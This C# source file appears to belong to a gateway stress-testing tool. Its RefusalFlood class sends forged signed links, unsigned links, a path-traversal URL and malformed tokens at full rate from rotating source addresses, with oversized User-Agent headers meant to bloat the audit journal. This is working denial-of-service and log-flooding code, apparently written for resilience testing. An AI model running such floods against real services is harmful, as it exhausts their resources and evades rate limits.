using System.Globalization;
using System.Net.Sockets;
using System.Security.Cryptography;

namespace SecureStream.FloodTool;

/// <summary>
/// Request loops that send forged credentials as fast as the gateway answers: a link with a
/// random signature, a link with no signature, an ambiguous path and a malformed token in turn,
/// each with a long User-Agent made of characters JSON escaping expands six-fold (the attack on
/// the audit journal's size). Connections are short-lived so the source address rotates.
/// </summary>
internal sealed class RefusalFlood(FloodOptions options, SourceRotation sources, FloodCounters counters)
{
    public async Task RunAsync(CancellationToken stop)
    {
        var handler = new SocketsHttpHandler
        {
            AllowAutoRedirect = false,
            UseCookies = false,
            UseProxy = false,
            MaxConnectionsPerServer = Math.Max(1, options.RefusalWorkers),
            PooledConnectionLifetime = TimeSpan.FromSeconds(1),
            ConnectCallback = async (context, cancellationToken) =>
            {
                var socket = new Socket(System.Net.Sockets.SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
                try
                {
                    socket.Bind(new System.Net.IPEndPoint(sources.Next(), 0));
                    await socket.ConnectAsync(context.DnsEndPoint, cancellationToken);
                    return new NetworkStream(socket, ownsSocket: true);
                }
                catch
                {
                    socket.Dispose();
                    throw;
                }
            },
        };
        using var client = new HttpClient(handler) { BaseAddress = options.Gateway, Timeout = TimeSpan.FromSeconds(10) };
        var userAgent = new string('<', options.UserAgentLength);
        await Task.WhenAll(Enumerable.Range(0, options.RefusalWorkers).Select(i => WorkerAsync(client, userAgent, i, stop)));
    }

    private async Task WorkerAsync(HttpClient client, string userAgent, int worker, CancellationToken stop)
    {
        for (var n = worker; !stop.IsCancellationRequested; n++)
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, Forged(n));
            if (userAgent.Length > 0)
            {
                request.Headers.TryAddWithoutValidation("User-Agent", userAgent);
            }

            request.Content = new StringContent("v=0\r\n", System.Text.Encoding.ASCII, "application/sdp");
            try
            {
                using var response = await client.SendAsync(request, stop);
                counters.Answered((int)response.StatusCode);
            }
            catch (OperationCanceledException) when (stop.IsCancellationRequested)
            {
                return;
            }
            catch (Exception ex) when (ex is HttpRequestException or OperationCanceledException or IOException)
            {
                counters.RequestFailed();
                // A gateway that refuses connections must not turn this loop into a busy spin.
                await Task.Delay(50, CancellationToken.None);
            }
        }
    }

    private string Forged(int n)
    {
        var junk = Convert.ToBase64String(RandomNumberGenerator.GetBytes(20)).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        return (n % 4) switch
        {
            0 => $"{options.Path}?policy=eyJ1cmxfZXhwaXJlIjo0MTAyNDQ0ODAwMDAwfQ&signature={junk}",
            1 => $"{options.Path}?policy=eyJ1cmxfZXhwaXJlIjo0MTAyNDQ0ODAwMDAwfQ",
            2 => $"{options.Path}/%2e%2e/x?n={n.ToString(CultureInfo.InvariantCulture)}",
            _ => $"{options.Path}?token=eyJhbGciOiJIUzI1NiJ9.e30.{junk}",
        };
    }
}
